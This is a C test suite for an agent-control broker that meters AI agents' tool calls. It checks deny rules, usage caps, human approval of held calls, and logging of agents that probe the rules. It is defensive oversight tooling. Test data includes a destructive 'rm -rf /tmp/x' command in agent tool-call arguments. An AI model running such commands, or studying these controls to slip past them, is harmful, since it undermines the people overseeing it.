        cr_expect_eq(json_integer_value(json_object_get(j, "v")), 1);
        json_decref(j);
        free(req);

        cr_assert_eq(parse(&c, &err,
                           ARGS("tokens", "--model", "gpt-4o", "--input", "100", "--output=5", "--cached-input", "40")),
                     0);
        cr_expect_eq(c.kind, AJ_METER_CMD_TOKENS);
        cr_expect_eq(c.input, 100);
        cr_expect_eq(c.output, 5);
        cr_expect_eq(c.cached, 40);
        cr_assert_eq(parse(&c, &err, ARGS("result", "c9", "--status", "error", "--undo", "{\"restore\": \"x\"}")), 0);
        cr_expect_eq(c.kind, AJ_METER_CMD_RESULT);
        cr_expect_str_eq(c.id, "c9");
        cr_assert_eq(parse(&c, &err, ARGS("usage")), 0);
        cr_expect_eq(c.kind, AJ_METER_CMD_USAGE);
        cr_assert_eq(parse(&c, &err, ARGS("tool", "--help")), 0);
        cr_expect_eq(c.kind, AJ_METER_CMD_HELP);
}

Test(meter_cmd, parse_errors)
{
        static const struct {
                const char *args[12];
                const char *msg;
        } bad[] = {
                { { "meter", NULL },
                  "missing command (tool, result, tokens, usage, hook; see 'agentjail meter --help')" },
                { { "meter", "fly", NULL }, "unknown command \"fly\" (expected tool, result, tokens, usage or hook)" },
                { { "meter", "tool", NULL }, "tool: missing the tool NAME" },
                { { "meter", "tool", "a b", NULL }, "tool: NAME must be 1 to 256 characters without spaces" },
                { { "meter", "tool", "x", "y", NULL }, "tool: unexpected argument \"y\"" },
                { { "meter", "tool", "x", "--args", NULL }, "--args needs a value" },
                { { "meter", "tool", "x", "--args", "{oops", NULL }, "--args: invalid JSON: " },
                { { "meter", "tool", "x", "--status", "ok", NULL }, "tool: unknown option \"--status\"" },
                { { "meter", "result", "c1", NULL }, "result: --status ok|error is required" },
                { { "meter", "result", "c1", "--status", "meh", NULL },
                  "--status: expected \"ok\" or \"error\", got \"meh\"" },
                { { "meter", "result", "c1", "--status", "ok", "--undo", "[1]", NULL },
                  "--undo: expected a JSON object" },
                { { "meter", "tokens", "--model", "m", "--input", "1", NULL },
                  "tokens: --model, --input and --output are required" },
                { { "meter", "tokens", "--model", "m", "--input", "-1", "--output", "1", NULL },
                  "--input: expected a number of tokens, got \"-1\"" },
                { { "meter", "tokens", "--model", "m", "--input", "1", "--output", "1", "--cached-input", "2", NULL },
                  "--cached-input: must not exceed --input (cached tokens are part of the input)" },
                { { "meter", "usage", "extra", NULL }, "usage: unexpected argument \"extra\"" },
        };
        for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
                AjMeterCmd c;
                AjError e = {};
                cr_expect_eq(parse(&c, &e, bad[i].args), -EINVAL, "case %zu", i);
                const char *err = e.message;
                cr_expect(err && strncmp(err, bad[i].msg, strlen(bad[i].msg)) == 0, "case %zu: got \"%s\", want \"%s\"",
                          i, err ?: "", bad[i].msg);
                aj_error_clear(&e);
        }
}

/* The real client against the real broker: exit statuses and human output. */
Test(meter_cmd, client_exit_statuses, .init = setup, .fini = teardown)
{
        cr_assert_eq(aj_meter_add_tool_rule(env.meter, AJ_TOOL_RULE_DENY, "email.send"), 0);
        char *err;
        (void)err;
        setenv(AJ_BROKER_ENV, env.path, 1);
        static const struct {
                const char *args[10];
                int status;
        } cases[] = {
                { { "meter", "tool", "crm.update", NULL }, AJ_METER_EXIT_OK },
                { { "meter", "tool", "email.send", NULL }, AJ_METER_EXIT_DENIED },
                { { "meter", "tokens", "--model", "m", "--input", "5", "--output", "5", NULL }, AJ_METER_EXIT_OK },
                { { "meter", "result", "c1", "--status", "ok", NULL }, AJ_METER_EXIT_OK },
                { { "meter", "usage", "--json", NULL }, AJ_METER_EXIT_OK },
                { { "meter", "tool", NULL }, AJ_METER_EXIT_USAGE },
        };
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                /* The client blocks on its reply: run it in a child, serve it here. */
                fflush(NULL);
                pid_t pid = fork();
                cr_assert_geq(pid, 0);
                if (pid == 0) {
                        int argc = 0;
                        while (cases[i].args[argc])
                                argc++;
                        _exit(aj_cmd_meter(argc, (char **)cases[i].args));
                }
                int status = -1;
                for (int k = 0; k < 5000; k++) {
                        pump();
                        if (waitpid(pid, &status, WNOHANG) == pid)
                                break;
                }
                cr_assert(WIFEXITED(status), "case %zu did not finish", i);
                cr_expect_eq(WEXITSTATUS(status), cases[i].status, "case %zu", i);
        }
        unsetenv(AJ_BROKER_ENV);
}

/* `check`: the verdict the tools rules give a name, and whether approvals would hold it;
 * nothing counted as a call, held or recorded on its own (agentjail mcp hides denied tools
 * with it; checks are summed into tool.checks a second later: below). */
Test(approvals, check_tells_the_rules_verdict_without_counting)
{
        AjMeterCaps caps = {};
        caps.set[AJ_CAP_TOOL_CALLS] = true;
        caps.limit[AJ_CAP_TOOL_CALLS] = 0;
        setup_approvals(&caps);
        cr_assert_eq(aj_meter_add_tool_rule(env.meter, AJ_TOOL_RULE_DENY, "mcp.fs.write_*"), 0);
        int fd = client();

        json_t *r = request(fd,
                            "{\"id\": 1, \"v\": 1, \"op\": \"check\", \"gen_ai.tool.name\": \"mcp.fs.write_file\"}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        cr_expect_eq(json_integer_value(json_object_get(r, "id")), 1);
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        cr_expect_str_eq(str(r, "gen_ai.tool.name", NULL), "mcp.fs.write_file");
        cr_expect_str_eq(str(r, "reason", NULL),
                         "tool \"mcp.fs.write_file\" is denied by tools.deny \"mcp.fs.write_*\"");
        cr_expect(json_is_false(json_object_get(r, "approval_required")));
        json_decref(r);

        /* Allowed by the rules although tool_calls is 0: the caps are not judged. */
        r = request(fd, "{\"id\": \"c2\", \"v\": 1, \"op\": \"check\", \"gen_ai.tool.name\": \"mcp.fs.read_file\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        cr_expect_str_eq(str(r, "id", NULL), "c2");
        cr_expect_null(json_object_get(r, "reason"));
        cr_expect(json_is_false(json_object_get(r, "approval_required")));
        json_decref(r);

        /* A name approvals would hold: answered at once, nothing held. */
        r = request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"check\", \"gen_ai.tool.name\": \"refund.issue\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        cr_expect(json_is_true(json_object_get(r, "approval_required")));
        json_decref(r);
        cr_expect_null(in_flight_call("refund.issue"));

        cr_expect_eq(json_array_size(env.fake.events), 0, "a check records nothing of its own");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0, "and counts nothing");

        /* Its fields are checked like any request's. */
        expect_error(request(fd, "{\"id\": 4, \"v\": 1, \"op\": \"check\"}\n"), "bad_request",
                     "missing field \"gen_ai.tool.name\"", false);
        expect_error(request(fd, "{\"id\": 5, \"v\": 1, \"op\": \"check\", \"gen_ai.tool.name\": \"a b\"}\n"),
                     "bad_request", "field \"gen_ai.tool.name\"", false);
        expect_error(request(fd, "{\"id\": 6, \"v\": 1, \"op\": \"check\", \"gen_ai.tool.name\": \"x\", "
                                 "\"gen_ai.tool.call.arguments\": {}}\n"),
                     "bad_request", "unknown field \"gen_ai.tool.call.arguments\" for op \"check\"", false);
        close(fd);
}

#define CHECK(id, name) "{\"id\": " #id ", \"v\": 1, \"op\": \"check\", \"gen_ai.tool.name\": \"" name "\"}\n"

/* An agent probing the tools rules with `check` is on the record, and cannot flood it: its
 * checks are summed into one tool.checks a second after the first (counts, the first 8
 * denied names), however many; what the last second counted is written at the run's end. */
Test(approvals, checks_are_summed_into_one_event_a_second)
{
        setup_approvals(NULL);
        cr_assert_eq(aj_meter_add_tool_rule(env.meter, AJ_TOOL_RULE_DENY, "secret.*"), 0);
        int fd = client();
        char line[128];
        for (int i = 0; i < 500; i++) {
                snprintf(line, sizeof(line), i % 5 ? CHECK(% d, "secret.t%d") : CHECK(% d, "open.t%d"), i, i % 20);
                json_decref(request(fd, line));
        }
        cr_expect_eq(json_array_size(env.fake.events), 0, "nothing written within the second");
        fake_now += AJ_BROKER_CHECK_SUMMARY_NS;
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_assert_eq(json_array_size(env.fake.events), 1, "one event for 500 checks");
        json_t *ev = json_array_get(env.fake.events, 0);
        cr_expect_str_eq(event_type(0), "tool.checks");
        cr_expect_eq(json_integer_value(json_object_get(ev, "checks")), 500);
        cr_expect_eq(json_integer_value(json_object_get(ev, "allowed")), 100);
        cr_expect_eq(json_integer_value(json_object_get(ev, "denied")), 400);
        cr_expect_eq(json_integer_value(json_object_get(ev, "run_checks")), 500);
        json_t *names = json_object_get(ev, "denied_names");
        cr_assert_eq(json_array_size(names), AJ_BROKER_CHECK_SUMMARY_NAMES, "the first 8 distinct denied names");
        cr_expect_str_eq(json_string_value(json_array_get(names, 0)), "secret.t1");
        cr_expect_str_eq(json_string_value(json_array_get(names, 4)), "secret.t6");

        /* Nothing new: no event; the next checks start the next second. */
        fake_now += 10 * AJ_BROKER_CHECK_SUMMARY_NS;
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_expect_eq(json_array_size(env.fake.events), 1);
        json_decref(request(fd, CHECK(900, "open.x")));
        json_decref(request(fd, CHECK(901, "secret.x")));
        fake_now += AJ_BROKER_CHECK_SUMMARY_NS / 2;
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_expect_eq(json_array_size(env.fake.events), 1, "half a second: not yet");
        aj_broker_flush_checks(env.broker); /* the run's end */
        cr_assert_eq(json_array_size(env.fake.events), 2);
        ev = json_array_get(env.fake.events, 1);
        cr_expect_eq(json_integer_value(json_object_get(ev, "checks")), 2);
        cr_expect_eq(json_integer_value(json_object_get(ev, "run_checks")), 502);
        cr_expect_str_eq(json_string_value(json_array_get(json_object_get(ev, "denied_names"), 0)), "secret.x");
        aj_broker_flush_checks(env.broker);
        cr_expect_eq(json_array_size(env.fake.events), 2, "flushed once");
        close(fd);
}

/* A summary the log refused (the agent's share full) is kept for the next. */
Test(approvals, checks_not_written_are_kept_for_the_next_summary)
{
        setup_approvals(NULL);
        int fd = client();
        json_decref(request(fd, CHECK(1, "a.b")));
        env.fake.fail_emit = 1;
        fake_now += AJ_BROKER_CHECK_SUMMARY_NS;
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_expect_eq(json_array_size(env.fake.events), 0);
        env.fake.fail_emit = 0;
        json_decref(request(fd, CHECK(2, "a.c")));
        fake_now += AJ_BROKER_CHECK_SUMMARY_NS;
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_assert_eq(json_array_size(env.fake.events), 1);
        cr_expect_eq(json_integer_value(json_object_get(json_array_get(env.fake.events, 0), "checks")), 2);
        close(fd);
}

/* ---- a call the gateway already counted (the model's call id) ---- */

/* The gateway counts the model's call `id` (as llm-meter.c does when it is whole). */
static void gateway_counts(const char *name, const char *id)
{
        AjMeterReservation res;
        AjMeterDecision d;
        cr_assert_eq(aj_meter_reserve_tool_call(env.meter, name, "gw-digest", id, AJ_METER_BY_GATEWAY, 0, &res, &d), 0);
        cr_assert_eq(d.verdict, AJ_VERDICT_ALLOW);
        aj_meter_settle(env.meter, &res, true);
}

#define HOOK_CALL(rid, id, cmd)                                                                 \
        "{\"id\": " #rid ", \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"codex.Bash\", " \
        "\"gen_ai.tool.call.id\": \"" id "\", \"gen_ai.tool.call.arguments\": {\"command\": \"" cmd "\"}}\n"

Test(broker, call_counted_by_the_gateway_is_not_counted_again)
{
        AjMeterCaps caps = {};
        teardown();
        caps.set[AJ_CAP_REPEAT_LIMIT] = true;
        caps.limit[AJ_CAP_REPEAT_LIMIT] = 2;
        setup_with(&caps);
        int fd = client();
        gateway_counts("exec_command", "call_A");
        json_t *r = request(fd, HOOK_CALL(1, "call_A", "ls"));
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        json_t *ev = last_event();
        cr_expect_str_eq(str(ev, "type", NULL), "tool.verdict");
        cr_expect_str_eq(str(ev, "counted_by", NULL), "gateway");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 1);
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_REPEAT_LIMIT, 0), 1, "the streak is the gateway's");

        /* The same id again, for another call: counted (an id exempts one call, once). */
        r = request(fd, HOOK_CALL(2, "call_A", "rm -rf /tmp/x"));
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        cr_expect_str_eq(str(last_event(), "counted_by", NULL), "(none)");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 2);
        /* No id, or one the gateway never gave: counted as before. */
        json_decref(request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"codex.Bash\", "
                                "\"gen_ai.tool.call.arguments\": {\"command\": \"rm -rf /tmp/x\"}}\n"));
        cr_expect_str_eq(str(last_event(), "counted_by", NULL), "(none)");
        r = request(fd, HOOK_CALL(4, "call_B", "rm -rf /tmp/x"));
        cr_expect_str_eq(str(r, "verdict", NULL), "breach", "the third identical call the broker counted");
        cr_expect_str_eq(str(r, "cap", NULL), "repeat_limit");
        json_decref(r);
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 3);
        close(fd);
}

Test(broker, call_counted_by_the_gateway_is_still_judged_by_the_rules)
{
        cr_assert_eq(aj_meter_add_tool_rule(env.meter, AJ_TOOL_RULE_DENY, "codex.Bash"), 0);
        int fd = client();
        gateway_counts("exec_command", "call_D");
        json_t *r = request(fd, HOOK_CALL(1, "call_D", "ls"));
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        json_decref(r);
        cr_expect_str_eq(str(last_event(), "counted_by", NULL), "(none)");
        cr_expect_eq(aj_meter_call_ids(env.meter, AJ_METER_BY_GATEWAY), 1, "a denied request claims nothing");
        close(fd);
}

Test(approvals, call_counted_by_the_gateway_is_still_held_then_not_counted)
{
        setup_approvals(NULL);
        int fd = client();
        gateway_counts("refund", "r5");
        send_text(fd, REFUND(5));
        cr_assert_not(reply_ready(fd), "held for approval all the same");
        cr_expect_eq(aj_meter_call_ids(env.meter, AJ_METER_BY_GATEWAY), 0, "claimed while held");
        AjError err = {};
        cr_assert_eq(aj_broker_decide(env.broker, "r5", true, NULL, "alice", NULL, NULL, &err), 0);
        json_t *r = read_reply(fd);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        cr_expect_str_eq(str(last_event(), "type", NULL), "tool.verdict");
        cr_expect_str_eq(str(last_event(), "counted_by", NULL), "gateway");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 1);

        /* Denied: the id is given back, nothing counted. */
        gateway_counts("refund", "r6");
        send_text(fd, REFUND(6));
        cr_assert_not(reply_ready(fd));
        cr_assert_eq(aj_broker_decide(env.broker, "r6", false, NULL, "alice", NULL, NULL, &err), 0);
        json_decref(read_reply(fd));
        cr_expect_eq(aj_meter_call_ids(env.meter, AJ_METER_BY_GATEWAY), 1);
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 2);
        close(fd);
}

/* ---- group commit: one write for a wake-up's requests, before any of their replies ---- */

typedef struct {
        Fake *fake;
        bool held;
        size_t pending;    /* events held, not yet "written" */
        size_t written;    /* events "written" */
        int writes;        /* commits that wrote something */
        int fail_commit;   /* commit returns -EIO */
        int fds[8], n_fds; /* clients: none may have a reply readable when a commit writes */
        int replies_early;
        int breaches_before_write; /* a breach handled while its event was still held */
} Group;

static Group group;

static int group_emit(void *userdata, const char *type, json_t *fields)
{
        int r = fake_emit(userdata, type, fields);
        if (r < 0)
                return r;
        if (group.held)
                group.pending++;
        else
                group.written++;
        return 0;
}

static void group_hold(void *userdata) { group.held = true; }

static int group_commit(void *userdata)
{
        group.held = false;
        for (int i = 0; i < group.n_fds; i++) {
                char c;
                if (recv(group.fds[i], &c, 1, MSG_PEEK | MSG_DONTWAIT) > 0)
                        group.replies_early++;
        }
        if (group.pending == 0)
                return 0;
        if (group.fail_commit) {
                group.pending = 0;
                return -EIO;
        }
        group.writes++;
        group.written += group.pending;
        group.pending = 0;
        return 0;
}

static size_t group_held_bytes(void *userdata) { return group.pending * 300; }

static void group_breach(void *userdata, const AjBreach *b)
{
        /* Its request's events written, and nothing held: its own records go straight in. */
        if (group.pending > 0 || group.held)
                group.breaches_before_write++;
        fake_breach(userdata, b);
}

static void setup_group(void)
{
        teardown(); /* the suite's own (criterion runs its init first) */
        setup();
        group = (Group){ .fake = &env.fake };
        env.hooks.emit = group_emit;
        env.hooks.hold = group_hold;
        env.hooks.commit = group_commit;
        env.hooks.held_bytes = group_held_bytes;
}

static int group_client(void)
{
        int fd = client();
        group.fds[group.n_fds++] = fd;
        return fd;
}

static const char group_tokens[] = "{\"id\":%d,\"v\":1,\"op\":\"tokens\",\"gen_ai.request.model\":\"m\","
                                   "\"gen_ai.usage.input_tokens\":%d,\"gen_ai.usage.output_tokens\":1}\n";

Test(broker, one_write_for_every_ready_client_before_any_reply, .init = setup_group, .fini = teardown)
{
        int fds[3];
        for (int i = 0; i < 3; i++)
                fds[i] = group_client();
        /* 3 clients x 5 pipelined requests, all there before the broker wakes. */
        for (int i = 0; i < 3; i++) {
                char text[4096] = "";
                for (int k = 0; k < 5; k++) {
                        char line[256];
                        snprintf(line, sizeof(line), group_tokens, k, 100 * i + k);
                        strcat(text, line);
                }
                send_text(fds[i], text);
        }
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_expect_eq(group.writes, 1, "one write for the 15 requests of 3 clients (%d)", group.writes);
        cr_expect_eq(group.written, 15);
        cr_expect_eq(group.replies_early, 0, "no reply was readable before the write");
        /* Every client has its 5 replies, in its request order. */
        for (int i = 0; i < 3; i++)
                for (int k = 0; k < 5; k++) {
                        json_t *r = read_reply(fds[i]);
                        cr_assert_not_null(r);
                        cr_expect_eq(json_integer_value(json_object_get(r, "id")), k);
                        cr_expect(json_is_true(json_object_get(r, "ok")));
                        json_decref(r);
                }
        /* The events are in the order handled: each client's requests in order. */
        int last[3] = { -1, -1, -1 };
        for (size_t e = 0; e < json_array_size(env.fake.events); e++) {
                json_int_t in = json_integer_value(
                        json_object_get(json_array_get(env.fake.events, e), "gen_ai.usage.input_tokens"));
                int i = (int)(in / 100), k = (int)(in % 100);
                cr_expect_eq(k, last[i] + 1, "client %d's requests recorded in order", i);
                last[i] = k;
        }
        for (int i = 0; i < 3; i++)
                close(fds[i]);
}

Test(broker, a_failed_write_sends_none_of_its_replies, .init = setup_group, .fini = teardown)
{
        int fd = group_client(), other = group_client();
        char line[256];
        snprintf(line, sizeof(line), group_tokens, 1, 10);
        send_text(fd, line);
        group.fail_commit = 1;
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_expect_eq(group.replies_early, 0);
        /* Its connection is closed without the reply: nothing unrecorded is answered. */
        char buf[256];
        ssize_t n = recv(fd, buf, sizeof(buf), 0);
        cr_expect_leq(n, 0, "no reply after a failed write (got %zd bytes)", n);
        /* The other client, with nothing in that write, goes on; and a later write works. */
        group.fail_commit = 0;
        snprintf(line, sizeof(line), group_tokens, 2, 20);
        send_text(other, line);
        json_t *r = read_reply(other);
        cr_assert_not_null(r);
        cr_expect(json_is_true(json_object_get(r, "ok")));
        cr_expect_eq(group.written, 1);
        json_decref(r);
        close(fd);
        close(other);
}

Test(broker, a_breach_is_handled_after_its_event_is_written, .fini = teardown)
{
        AjMeterCaps caps = { 0 };
        caps.set[AJ_CAP_TOKENS] = true;
        caps.limit[AJ_CAP_TOKENS] = 100;
        teardown();
        setup_with(&caps);
        group = (Group){ .fake = &env.fake };
        env.hooks.emit = group_emit;
        env.hooks.hold = group_hold;
        env.hooks.commit = group_commit;
        env.hooks.held_bytes = group_held_bytes;
        env.hooks.breach = group_breach;
        int fd = group_client();
        char line[256];
        snprintf(line, sizeof(line), group_tokens, 1, 500);
        send_text(fd, line);
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_expect_eq(env.fake.n_breach, 1);
        cr_expect_eq(group.breaches_before_write, 0, "the breaching request's event is written before the breach");
        cr_expect_eq(group.writes, 1);
        json_t *r = read_reply(fd);
        cr_assert_not_null(r);
        cr_expect_str_eq(json_string_value(json_object_get(r, "verdict")), "breach");
        json_decref(r);
        close(fd);
}

/* ---- tokens and tool calls printed without jansson values: the same events and reply ---- */

static json_t *printed_events; /* the texts the hooks got, as strings */
static size_t n_printed;       /* of them, those emit_text() got */

static int text_emit(void *userdata, const char *type, const char *object, size_t len)
{
        json_array_append_new(printed_events, json_stringn(object, len));
        n_printed++;
        return 0;
}

static int json_emit(void *userdata, const char *type, json_t *fields)
{
        char *t = json_dumps(fields, JSON_COMPACT | JSON_ENSURE_ASCII);
        json_array_append_new(printed_events, json_string(t));
        free(t);
        json_decref(fields);
        return 0;
}

/* Events (as texts) and reply lines of the requests `req` (n_req lines), with the jansson
 * path or the printed one; `caps` may be NULL, `gateway_id` a call id the gateway counted
 * first (NULL: none). */
static void request_texts(const char *req, size_t n_req, bool printed, const AjMeterCaps *caps, const char *gateway_id,
                          json_t **ret_events, json_t **ret_replies)
{
        teardown(); /* the suite's own broker: each call makes its own */
        setup_with(caps);
        cr_assert_eq(aj_meter_set_price(env.meter, "gpt-4o", 2.5e-6, 1e-5, 1.25e-6), 0);
        cr_assert_eq(aj_meter_set_price(env.meter, "a\"b\\c/d", 2.5e-6, 1e-5, 1.25e-6), 0);
        if (gateway_id) {
                AjMeterReservation res;
                AjMeterDecision d;
                cr_assert_eq(aj_meter_reserve_tool_call(env.meter, "t", "gw-digest", gateway_id, AJ_METER_BY_GATEWAY, 0,
                                                        &res, &d),
                             0);
                aj_meter_settle(env.meter, &res, true);
        }
        printed_events = json_array();
        n_printed = 0;
        env.hooks.emit = json_emit;
        env.hooks.emit_text = printed ? text_emit : NULL;
        int fd = client();
        send_text(fd, req);
        json_t *replies = json_array();
        char buf[16384];
        size_t have = 0;
        for (int i = 0; i < 400 && json_array_size(replies) < n_req; i++) {
                pump();
                ssize_t n = recv(fd, buf + have, sizeof(buf) - have, MSG_DONTWAIT);
                if (n > 0)
                        have += (size_t)n;
                char *nl;
                while ((nl = memchr(buf, '\n', have))) {
                        json_array_append_new(replies, json_stringn(buf, (size_t)(nl - buf)));
                        have -= (size_t)(nl - buf) + 1;
                        memmove(buf, nl + 1, have);
                }
        }
        close(fd);
        *ret_events = printed_events;
        *ret_replies = replies;
        teardown();
}

/* The strings of two arrays, the first n, one by one. */
static void expect_same_texts(json_t *got, json_t *want, size_t n, const char *what)
{
        for (size_t i = 0; i < n; i++)
                cr_expect_str_eq(json_string_value(json_array_get(got, i)), json_string_value(json_array_get(want, i)),
                                 "%s %zu", what, i);
}

static void tokens_texts(const char *req, size_t n_req, bool printed, json_t **ret_events, json_t **ret_replies)
{
        request_texts(req, n_req, printed, NULL, NULL, ret_events, ret_replies);
}

static const char tokens_reqs[] = "{\"id\":1,\"v\":1,\"op\":\"tokens\",\"gen_ai.request.model\":\"gpt-4o\","
                                  "\"gen_ai.usage.input_tokens\":1200,\"gen_ai.usage.output_tokens\":300,"
                                  "\"gen_ai.usage.cache_read.input_tokens\":200}\n"
                                  "{\"id\":\"two\",\"v\":1,\"op\":\"tokens\",\"gen_ai.request.model\":\"other-model\","
                                  "\"gen_ai.usage.input_tokens\":7,\"gen_ai.usage.output_tokens\":0}\n"
                                  "{\"id\":3,\"v\":1,\"op\":\"tokens\",\"gen_ai.request.model\":\"gpt-4o\","
                                  "\"gen_ai.usage.input_tokens\":1,\"gen_ai.usage.output_tokens\":1099511627776}\n";

Test(broker, tokens_printed_are_the_same_bytes)
{
        json_t *ev_json, *rep_json, *ev_text, *rep_text;
        tokens_texts(tokens_reqs, 3, false, &ev_json, &rep_json);
        tokens_texts(tokens_reqs, 3, true, &ev_text, &rep_text);
        cr_assert_eq(json_array_size(rep_json), 3);
        cr_assert_eq(json_array_size(ev_json), 3);
        cr_assert_eq(json_array_size(ev_text), 3, "every tokens event took the printed path");
        expect_same_texts(ev_text, ev_json, 3, "event");
        expect_same_texts(rep_text, rep_json, 3, "reply");
        json_decref(ev_json);
        json_decref(rep_json);
        json_decref(ev_text);
        json_decref(rep_text);
}

/* The printed tokens path against the jansson one, with agent-chosen bytes that need
 * escaping (a model with quote, backslash and slash; ids with controls; extreme integers). */
Test(broker, tokens_printed_with_escapes_are_the_same_bytes)
{
        const char *req =
                "{\"id\":-9223372036854775808,\"v\":1,\"op\":\"tokens\",\"gen_ai.request.model\":\"a\\\"b\\\\c/d\","
                "\"gen_ai.usage.input_tokens\":3,\"gen_ai.usage.output_tokens\":5}\n"
                "{\"id\":\"\\u001f\\\"\\\\\\t\\u00e9\\ud83d\\ude00\\u007f\",\"v\":1,\"op\":\"tokens\",\"gen_ai.request.model\":\"x\","
                "\"gen_ai.usage.input_tokens\":0,\"gen_ai.usage.output_tokens\":0}\n"
                "{\"id\":9223372036854775807,\"v\":1,\"op\":\"tokens\",\"gen_ai.request.model\":\"\\u00e9\","
                "\"gen_ai.usage.input_tokens\":1,\"gen_ai.usage.output_tokens\":1}\n"
                "{\"id\":0,\"v\":1,\"op\":\"tokens\",\"gen_ai.request.model\":\"m\","
                "\"gen_ai.usage.input_tokens\":1000000000000,\"gen_ai.usage.output_tokens\":1000000000000,"
                "\"gen_ai.usage.cache_read.input_tokens\":999999999999}\n";
        json_t *ev_json, *rep_json, *ev_text, *rep_text;
        tokens_texts(req, 4, false, &ev_json, &rep_json);
        tokens_texts(req, 4, true, &ev_text, &rep_text);
        cr_assert_eq(json_array_size(rep_json), 4);
        cr_assert_eq(json_array_size(rep_text), 4);
        for (size_t i = 0; i < 4; i++) {
                const char *a = json_string_value(json_array_get(rep_text, i)),
                           *b = json_string_value(json_array_get(rep_json, i));
                cr_expect_str_eq(a, b, "reply %zu", i);
                json_t *e1 = json_array_get(ev_text, i), *e2 = json_array_get(ev_json, i);
                if (e1 && e2)
                        cr_expect_str_eq(json_string_value(e1), json_string_value(e2), "event %zu", i);
        }
        cr_expect_eq(json_array_size(ev_text), 4);
        for (size_t i = 0; i < json_array_size(ev_text); i++)
                cr_log_info("%s", json_string_value(json_array_get(ev_text, i)));
        for (size_t i = 0; i < 4; i++)
                cr_log_info("%s", json_string_value(json_array_get(rep_text, i)));
        json_decref(ev_json);
        json_decref(rep_json);
        json_decref(ev_text);
        json_decref(rep_text);
}

/* The printed tool path against the jansson one: allowed calls with the broker's id and the
 * agent's, arguments of every kind (nested, escapes, reals, non-ASCII, past the 1 KiB
 * logged whole), ids that need escaping, usage against caps, and a call the gateway
 * counted (counted_by). `n_text`: how many events each run of the printed path should
 * have printed (a non-ASCII name or id, escaped by jansson, takes the other path). */
static void tool_texts_same(const char *req, size_t n_req, const AjMeterCaps *caps, const char *gateway_id,
                            size_t n_text)
{
        json_t *ev_json, *rep_json, *ev_text, *rep_text;
        request_texts(req, n_req, false, caps, gateway_id, &ev_json, &rep_json);
        cr_assert_eq(n_printed, 0);
        request_texts(req, n_req, true, caps, gateway_id, &ev_text, &rep_text);
        cr_expect_eq(n_printed, n_text, "events printed: %zu", n_printed);
        cr_assert_eq(json_array_size(rep_json), n_req);
        cr_assert_eq(json_array_size(rep_text), n_req);
        cr_assert_eq(json_array_size(ev_json), 2 * n_req);
        cr_assert_eq(json_array_size(ev_text), 2 * n_req);
        for (size_t i = 0; i < n_req; i++)
                cr_assert(strstr(json_string_value(json_array_get(rep_text, i)), "\"verdict\":\"allow\""));
        expect_same_texts(rep_text, rep_json, n_req, "reply");
        expect_same_texts(ev_text, ev_json, 2 * n_req, "event");
        json_decref(ev_json);
        json_decref(rep_json);
        json_decref(ev_text);
        json_decref(rep_text);
}

Test(broker, tool_printed_are_the_same_bytes)
{
        char big[4096], req[16384];
        /* Past the 1 KiB logged whole: arguments_truncated, cut before a 2-byte character. */
        snprintf(big, sizeof(big), "{\"a\":\"%01020d\\u00e9\\\"x\"}", 0);
        snprintf(req, sizeof(req),
                 "{\"id\":1,\"v\":1,\"op\":\"tool\",\"gen_ai.tool.name\":\"crm.update\","
                 "\"gen_ai.tool.call.arguments\":{\"record\":42,\"name\":\"x\",\"z\":[1,2.5,null,true,{\"b\":\"c\"}]}}\n"
                 "{\"id\":\"two\",\"v\":1,\"op\":\"tool\",\"gen_ai.tool.name\":\"a\\\"b\\\\c/d\","
                 "\"gen_ai.tool.call.id\":\"c\\\"1\"}\n"
                 "{\"id\":-9223372036854775808,\"v\":1,\"op\":\"tool\",\"gen_ai.tool.name\":\"s\","
                 "\"gen_ai.tool.call.arguments\":\"\\u001f\\t\\u00e9\\ud83d\\ude00\\u007f\"}\n"
                 "{\"id\":4,\"v\":1,\"op\":\"tool\",\"gen_ai.tool.name\":\"s\",\"gen_ai.tool.call.arguments\":%s}\n"
                 "{\"id\":5,\"v\":1,\"op\":\"tool\",\"gen_ai.tool.name\":\"s\",\"gen_ai.tool.call.arguments\":"
                 "[1e300,-0.0,0.1,123456789012345678]}\n",
                 big);
        /* The third call's arguments are non-ASCII (jansson escapes them for the chain). */
        tool_texts_same(req, 5, NULL, NULL, 8);

        AjMeterCaps caps = {};
        caps.set[AJ_CAP_TOOL_CALLS] = caps.set[AJ_CAP_TOOL_CALLS_PER_MIN] = caps.set[AJ_CAP_COST_USD] = true;
        caps.limit[AJ_CAP_TOOL_CALLS] = 500;
        caps.limit[AJ_CAP_TOOL_CALLS_PER_MIN] = 60;
        caps.limit[AJ_CAP_COST_USD] = 2500000000000ull;
        tool_texts_same("{\"id\":1,\"v\":1,\"op\":\"tool\",\"gen_ai.tool.name\":\"crm.update\"}\n"
